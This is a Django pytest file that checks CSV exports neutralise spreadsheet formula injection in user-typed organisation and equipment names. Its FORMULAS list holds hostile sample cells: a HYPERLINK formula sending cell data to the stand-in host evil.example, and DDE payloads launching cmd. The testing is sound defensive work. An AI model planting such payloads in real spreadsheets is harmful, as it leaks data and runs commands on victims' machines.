"""No CSV export hands a spreadsheet a formula: names typed by users arrive as text."""

import csv
import datetime as dt
import io

import pytest
from django.contrib.auth.models import Group
from django.test import Client

from booking import services
from booking.roles import COUNTER_GROUP
from config.csvexport import safe_cell, spreadsheet_csv
from lending import counter
from tests.conftest import next_weekday_at
from tests.factories import (
    BorrowerFactory,
    CentreFactory,
    ItemTypeFactory,
    OrganisationFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1;"Klikk")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.parametrize("name", FORMULAS)
def test_a_cell_that_would_be_a_formula_is_text(name):
    assert safe_cell(name) == "'" + name


@pytest.mark.parametrize("value", ["Ås IL", "Bridge = kortspill", "12", "-12,50", "-3.5", 7, None])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_the_writer_quotes_and_neutralises(db):
    text = spreadsheet_csv([["Navn", "Beløp"], ["=1+1", "-12,50"], ['Lag "A"; B', 3]])
    assert text == '\ufeffNavn;Beløp\r\n\'=1+1;-12,50\r\n"Lag ""A""; B";3\r\n'


def test_the_support_report_csv_names_organisations_as_text(people):
    olga = Client()
    olga.force_login(people.olga)
    for weeks, name in enumerate(FORMULAS, start=1):
        organisation = OrganisationFactory(name=name)
        start = next_weekday_at(2, 18, weeks=weeks)
        services.booking_create(
            room=people.room, organisation=organisation, by=people.olga, start=start,
            end=start + dt.timedelta(hours=1), title="Møte", attendees=5,
        )  # fmt: skip
    years = {next_weekday_at(2, 18, weeks=w).year for w in range(1, len(FORMULAS) + 1)}
    rows = [row for y in years for row in read(olga.get(f"/reports/support.csv?year={y}"))]
    assert_no_formula(rows)
    names = {row[0] for row in rows}
    assert {"'" + name for name in FORMULAS} <= names


def test_the_lending_statistics_csv_names_equipment_as_text(db):
    dina = UserFactory(username="dina")
    Group.objects.create(name=COUNTER_GROUP).user_set.add(dina)
    site, per = CentreFactory(), BorrowerFactory()
    for name in FORMULAS:
        kind = ItemTypeFactory(centre=site, name=name, units=1)
        counter.loan_create(by=dina, borrower=per, barcodes=[f"T{kind.pk}-1"])
    web = Client()
    web.force_login(dina)
    rows = read(web.get("/lending/stats.csv"))
    assert_no_formula(rows)
    # The statistics strip a name's surrounding whitespace; what is left is still text.
    assert {"'" + name.strip() for name in FORMULAS} <= {row[0] for row in rows}
